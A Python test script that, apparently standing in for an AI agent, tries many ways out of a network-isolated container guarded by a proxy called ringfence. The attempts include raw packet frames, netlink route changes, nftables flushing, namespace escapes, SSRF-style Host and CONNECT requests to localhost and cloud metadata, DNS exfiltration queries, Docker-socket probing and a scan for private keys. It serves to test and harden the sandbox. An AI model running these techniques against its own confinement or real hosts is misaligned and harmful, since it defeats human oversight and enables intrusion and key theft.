"""Tries to get out of a container whose network ringfence governs, and prints one line an attempt: `held NAME: detail` or `ESCAPED NAME: detail`.

Run in the agent's place. The driver (tests/docker.rs) has a canary on every address of the machine and describes it in $ESCAPE, a JSON object:
  secret      what the canary answers; seeing it is an escape. What the canary itself saw, the driver compares afterwards.
  addresses   the machine's addresses, on every bridge
  origin      an address that ringfence may reach and the agent may not
  listens     the ports on which ringfence answers this agent
  ringfence   where it does; in a shared network that is wherever one asks
  scan        whether all other ports there must be closed
Exit status 1 if anything escaped.
"""

import ctypes
import errno
import json
import os
import signal
import socket
import stat
import struct
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from functools import partial

LIBC = ctypes.CDLL(None, use_errno=True)
ASKED = json.loads(os.environ["ESCAPE"])
SECRET = ASKED["secret"].encode()
SOCKET = ctypes.c_long(41 if os.uname().machine == "x86_64" else 198)
SETSOCKOPT = ctypes.c_long(54 if os.uname().machine == "x86_64" else 208)
NEWNET, NEWUSER, NEWNS = 0x40000000, 0x10000000, 0x00020000
attempts = escaped = 0


class Out(Exception):
    """An attempt succeeded."""


def judged(attempt):
    try:
        return "held", attempt() or "nothing"
    except Out as out:
        return "ESCAPED", out
    except (OSError, subprocess.SubprocessError) as error:
        return "held", error


def report(name, attempt, verdict=None):
    global attempts, escaped
    verdict, detail = verdict or judged(attempt)
    attempts, escaped = attempts + 1, escaped + (verdict == "ESCAPED")
    print(f"{verdict} {name}:", str(detail).replace("\n", " | ")[:200], flush=True)


def side_by_side(tries):
    """Most of these wait for an answer that must not come."""
    tries = list(tries)
    with ThreadPoolExecutor(16) as pool:
        for (name, attempt), verdict in zip(tries, pool.map(judged, [attempt for _, attempt in tries])):
            report(name, attempt, verdict)


def call(function, *arguments):
    result = getattr(LIBC, function)(*arguments)
    if result < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return result


def in_child(work):
    """Runs work in a child, because it changes what the process is; the child's verdict comes back."""
    reading, writing = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(20)
        try:
            text = "+" + str(work())
        except Out as out:
            text = "!" + str(out)
        except BaseException as error:
            text = "-" + repr(error)
        os.write(writing, text.encode()[:4000])
        os._exit(0)
    os.close(writing)
    with os.fdopen(reading, "rb") as pipe:
        text = pipe.read().decode()
    os.waitpid(child, 0)
    if text.startswith("!"):
        raise Out(text[1:])
    return text[1:] or "died"


def outside(condition, detail):
    if condition:
        raise Out(str(detail))
    return detail


def no_secret(data):
    return outside(SECRET in data, data[:60])


def family_of(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def exchange(address, port, kind=socket.SOCK_STREAM, protocol=0, prepare=None, data=b"GET / HTTP/1.0\r\nHost: escape.invalid\r\n\r\n"):
    with socket.socket(family_of(address), kind, protocol) as probe:
        probe.settimeout(0.3)
        if address.endswith(".255"):
            broadcast(probe)
        if prepare:
            prepare(probe)
        probe.connect((address, port))
        probe.sendall(data)
        return no_secret(probe.recv(4096))


def broadcast(probe):
    """SO_BROADCAST, asked for in each way that a filter of system calls might not recognise."""
    one = ctypes.c_int(1)
    for level, option in ((1, 6), (1 | 1 << 32, 6), (1, 6 | 1 << 32)):
        if LIBC.syscall(SETSOCKOPT, ctypes.c_long(probe.fileno()), ctypes.c_long(level), ctypes.c_long(option), ctypes.byref(one), ctypes.c_long(4)) == 0:
            return


# ---- addresses ------------------------------------------------------------------------------------------------------------------------


def scoped():
    """Link-local addresses answer on each interface of ours: the machine's side of a bridge has one too, unless it is told not to."""
    for _, name in socket.if_nameindex():
        if name != "lo":
            yield f"ff02::1%{name}"
    for line in neighbours():
        yield line


def neighbours():
    """Every link-local address made from a MAC address that we have seen."""
    found = set()
    with open("/proc/net/arp") as table:
        for line in table.readlines()[1:]:
            hexes = line.split()[3].split(":")
            hexes[0] = f"{int(hexes[0], 16) ^ 2:02x}"
            found.add("fe80::{}{}:{}ff:fe{}:{}{}%{}".format(*hexes, line.split()[5]))
    return found


def addresses():
    mine = [*ASKED["addresses"], ASKED["origin"], "8.8.8.8", "169.254.169.254", "224.0.0.1", "255.255.255.255", "172.28.0.255", "2001:db8::5"]
    for address in [*mine, *scoped()]:
        for port in (22, 53, 80, 443, 2375, 8443):
            if (address, port) != (ASKED["ringfence"], port):
                yield f"tcp {address} port {port}", partial(exchange, address, port)
        for port in (53, 123, 443, 5353, 9999):
            yield f"udp {address} port {port}", partial(exchange, address, port, socket.SOCK_DGRAM)
    for address in [*ASKED["addresses"], ASKED["origin"]]:
        for name, kind, protocol in [("mptcp", 1, 262), ("sctp", 1, 132), ("dccp", 6, 33), ("udplite", 2, 136)]:
            yield f"{name} {address}", partial(exchange, address, 22 if name == "mptcp" else 9999, kind, protocol)
        options = [("a mark", 1, 36, 1), ("transparency", 0, 19, 1)]
        options += [(f"device {name}", 1, 25, name.encode()) for _, name in socket.if_nameindex()]
        for name, *option in options:
            yield f"with {name} to {address}", partial(exchange, address, 22, prepare=partial(set_option, option))
        yield f"from port 1337 to {address}", partial(exchange, address, 22, prepare=lambda probe: probe.bind(("", 1337)))


def set_option(option, probe):
    probe.setsockopt(*option)


def ports_of_ringfence():
    """Nothing but what was configured answers where ringfence stands."""
    open_ports = []
    for port in range(1, 65536):
        with socket.socket() as probe:
            probe.settimeout(0.3)
            if probe.connect_ex((ASKED["ringfence"], port)) == 0:
                open_ports.append(port)
    return outside(set(open_ports) - set(ASKED["listens"]), open_ports)


# ---- through ringfence ----------------------------------------------------------------------------------------------------------------


def through(request, port=80):
    with socket.create_connection((ASKED["ringfence"], port), 2) as connection:
        connection.sendall(request)
        answer = b""
        while piece := connection.recv(4096):
            answer += piece
            no_secret(answer)
            if b"\r\n\r\n" in answer and not answer.startswith(b"HTTP/1.1 200"):
                break
        return outside(answer.startswith(b"HTTP/1.1 200"), answer[:100]) if answer else "closed"


def by_ringfence():
    port = 3128 if 3128 in ASKED["listens"] else 80
    for host in [*ASKED["addresses"], ASKED["origin"], "127.0.0.1", "localhost", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "2130706433", "0x7f.1",
                 "169.254.169.254", "[fd00:ec2::254]", ASKED["ringfence"], "ringfence", "host.docker.internal", "gateway.docker.internal"]:
        for scheme_port in ("", ":22", ":2375"):
            name = f"{host}{scheme_port}".encode()
            report(f"host {host}{scheme_port}", lambda: through(b"GET / HTTP/1.1\r\nhost: %s\r\n\r\n" % name, port))
            report(f"absolute form {host}{scheme_port}", lambda: through(b"GET http://%s/ HTTP/1.1\r\nhost: %s\r\n\r\n" % (name, name), port))
        report(f"CONNECT {host}", lambda: through(b"CONNECT %s:22 HTTP/1.1\r\nhost: %s:22\r\n\r\n" % (host.encode(), host.encode()), port))
    allowed = b"GET /hello HTTP/1.1\r\nhost: origin.example.test\r\nx-forwarded-host: 127.0.0.1\r\n"
    for header in (b"host: 127.0.0.1\r\n", b"transfer-encoding: chunked\r\ncontent-length: 3\r\n", b" folded\r\n"):
        report(f"beside an allowed host {header[:12]!r}", lambda: through(allowed + header + b"\r\n", port))


# ---- names ----------------------------------------------------------------------------------------------------------------------------


def query(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", kind, 1)


def ask_name(server, name, kind, over_tcp=False):
    data = query(name, kind)
    with socket.socket(family_of(server), socket.SOCK_STREAM if over_tcp else socket.SOCK_DGRAM) as probe:
        probe.settimeout(0.5)
        probe.connect((server, 53))
        probe.sendall(struct.pack("!H", len(data)) + data if over_tcp else data)
        answer = no_secret(probe.recv(4096))[2 if over_tcp else 0:]
    count = struct.unpack("!H", answer[6:8])[0]
    return outside(count, f"{count} answers: {answer!r}") if len(answer) >= 12 else answer


def names():
    servers = ["127.0.0.11", ASKED["ringfence"], "8.8.8.8", *ASKED["addresses"]]
    with open("/etc/resolv.conf") as file:
        servers += [line.split()[1] for line in file if line.startswith("nameserver")]
    for server in dict.fromkeys(servers):
        for kind in (1, 28, 16, 65, 255):
            secret = "secret-" + "a" * 40 + ".exfiltrated.example"
            yield f"ask {server} for a foreign name, type {kind}", partial(ask_name, server, secret, kind)
        yield f"ask {server} over TCP", partial(ask_name, server, "secret.exfiltrated.example", 16, True)
        # Containers that share no network with us; their names are not ours to know.
        yield f"ask {server} for the origin's container", partial(ask_name, server, "origin", 1)
        yield f"ask {server} for an address's name", partial(ask_name, server, "10.0.29.172.in-addr.arpa", 12)
    for name in ("metadata.google.internal", "host.docker.internal", "localtest.me", "origin"):
        yield f"look up {name}", partial(looked_up, name)


def looked_up(name):
    return outside(socket.getaddrinfo(name, 80), name)


# ---- the kernel -----------------------------------------------------------------------------------------------------------------------


def opens(family, kind, protocol=0):
    with socket.socket(family, kind, protocol):
        raise Out("opened")


def frame():
    """Ethernet frames made by hand, past every route and filter of ours: UDP to the canary on each address of the machine."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3) as link:
        for _, name in socket.if_nameindex():
            if name == "lo":
                continue
            with open(f"/sys/class/net/{name}/address") as file:
                source = bytes.fromhex(file.read().strip().replace(":", ""))
            own = subprocess.run(["hostname", "-I"], capture_output=True, text=True).stdout.split() or ["172.28.0.3"]
            for target in ASKED["addresses"]:
                payload = b"by hand"
                udp = struct.pack("!4H", 40000, 9999, 8 + len(payload), 0) + payload
                head = struct.pack("!2B3H2BH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(own[0]), socket.inet_aton(target))
                total = sum(struct.unpack("!10H", head))
                total = (total & 0xFFFF) + (total >> 16)
                head = head[:10] + struct.pack("!H", ~total & 0xFFFF) + head[12:]
                link.bind((name, 0x0800))
                link.send(b"\xff" * 6 + source + b"\x08\0" + head + udp)
        raise Out("frames were sent")


def netlink(kind, flags, body):
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as route:
        route.send(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body)
        code = struct.unpack_from("=i", route.recv(4096), 16)[0]
        return outside(code == 0, os.strerror(-code))


def add_route():
    gateway = socket.inet_aton(ASKED["ringfence"])
    return netlink(24, 0x605, struct.pack("=8BI", 2, 0, 0, 0, 254, 3, 0, 1, 0) + struct.pack("=HH", 8, 5) + gateway)


def add_address():
    address = socket.inet_aton("172.28.0.77")
    return netlink(20, 0x605, struct.pack("=4BI", 2, 24, 0, 0, 2) + struct.pack("=HH", 8, 2) + address)


def flush_filters():
    """NFT_MSG_DELTABLE of every table, in a batch."""
    batch = lambda kind: struct.pack("=IHHIIBBH", 20, kind, 1, 1, 0, 0, 0, 0x0A00)
    delete = struct.pack("=IHHIIBBH", 20, (10 << 8) | 2, 5, 2, 0, 0, 0, 0)
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as filters:
        filters.settimeout(1)
        filters.send(batch(16) + delete + batch(17))
        code = struct.unpack_from("=i", filters.recv(4096), 16)[0]
        return outside(code == 0, os.strerror(-code))


def become(uid):
    os.setuid(uid)
    if os.getuid() != uid or uid == ASKED.get("uid"):
        return "it was that user before"
    exchange(ASKED["origin"], 443, data=b"\x16\x03\x01")
    raise Out(f"user {uid} may speak")


def new_network():
    call("unshare", NEWUSER | NEWNET)
    raise Out("made")


def enter(path):
    call("setns", os.open(path, os.O_RDONLY), 0)
    # Our own namespace may be entered; it leads nowhere.
    return "entered what it had"


def kernel():
    report("packet socket", lambda: opens(socket.AF_PACKET, socket.SOCK_RAW, 3))
    report("frames made by hand", frame)
    for family, protocols in [(socket.AF_INET, (1, 6, 17, 255)), (socket.AF_INET6, (58, 6, 17, 255))]:
        for protocol in protocols:
            report(f"raw socket {family}/{protocol}", lambda: opens(family, socket.SOCK_RAW, protocol))
    for family in (40, 40 | 1 << 32):
        report(f"vsock, as {family:#x}", lambda: outside(LIBC.syscall(SOCKET, ctypes.c_long(family), ctypes.c_long(1), ctypes.c_long(0)) >= 0, "opened"))
    report("add a route", add_route)
    report("add an address", add_address)
    report("remove packet filters", flush_filters)
    for name in ("net/ipv6/conf/all/disable_ipv6", "net/ipv6/conf/default/disable_ipv6", "net/ipv4/ip_forward", "net/ipv4/conf/all/rp_filter",
                 "net/ipv4/ping_group_range", "kernel/core_pattern"):
        report(f"write {name}", lambda: outside(os.open("/proc/sys/" + name, os.O_WRONLY), "opened"))
    for uid in (0, 1337, 65534):
        report(f"become user {uid}", lambda: in_child(lambda: become(uid)))
    report("a user namespace with a network", lambda: in_child(new_network))
    report("a network namespace", lambda: in_child(lambda: outside(call("unshare", NEWNET) == 0, "made")))
    for kind in ("net", "mnt", "pid", "user"):
        report(f"enter the {kind} namespace of process 1", lambda: in_child(lambda: enter(f"/proc/1/ns/{kind}")))
    report("mount", lambda: outside(call("mount", b"none", b"/mnt", b"tmpfs", 0, None) == 0, "mounted"))
    report("make a disk", lambda: outside(os.mknod("/tmp/disk", stat.S_IFBLK | 0o600, os.makedev(254, 0)) is None, "made"))


# ---- files ----------------------------------------------------------------------------------------------------------------------------


def private_keys():
    """Anything below / that is or holds a private key of ringfence; file systems of the kernel aside."""
    found = []
    for folder, folders, files in os.walk("/"):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys", "/usr", "/dev")]
        for name in files:
            try:
                with open(os.path.join(folder, name), "rb") as file:
                    if b"PRIVATE KEY-----" in file.read(1 << 20):
                        found.append(os.path.join(folder, name))
            except OSError:
                pass
    return outside([path for path in found if "/programs/" not in path], found)


def knock(path):
    with socket.socket(socket.AF_UNIX) as probe:
        probe.connect(path)
        raise Out("it answers")


def files():
    bundle = "/shared/ca-bundle.crt"
    report("write to the trust bundle", lambda: outside(open(bundle, "a"), "opened"))
    report("replace the trust bundle", lambda: outside(os.rename(bundle, bundle + "2") is None, "renamed"))
    report("put a file beside the trust bundle", lambda: outside(open("/shared/x", "w"), "opened"))
    report("make the trust bundle's mount writable", lambda: outside(call("mount", None, b"/shared", None, 32 | 4096, None) == 0, "remounted"))
    report("find a private key", private_keys)
    for path in ("/run/ringfence/admin.sock", "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock", "\0admin", "\0ringfence"):
        report(f"socket {path!r}", lambda: knock(path))
    for path in ("/var/lib/ringfence", "/etc/ringfence", "/policy", "/run/ringfence"):
        report(f"list {path}", lambda: outside(os.path.exists(path), path))
    report("signal other processes", lambda: outside([pid for pid in os.listdir("/proc") if pid.isdigit() and "ringfence" in command(pid)], "seen"))


def command(pid):
    try:
        with open(f"/proc/{pid}/comm") as file:
            return file.read()
    except OSError:
        return ""


if __name__ == "__main__":
    # A first packet to each neighbour, so that the table of neighbours has them.
    for known in [*ASKED["addresses"], ASKED["ringfence"]]:
        try:
            exchange(known, 22)
        except (OSError, Out):
            pass
    parts = [lambda: side_by_side(addresses()), lambda: side_by_side(names()), kernel, files]
    if ASKED["scan"]:
        parts.append(lambda: report("other ports of ringfence", ports_of_ringfence))
    if ASKED["listens"]:
        parts.append(by_ringfence)
    for part in parts:
        part()
    print(f"{attempts} attempts, {escaped} escaped", flush=True)
    sys.exit(1 if escaped else 0)
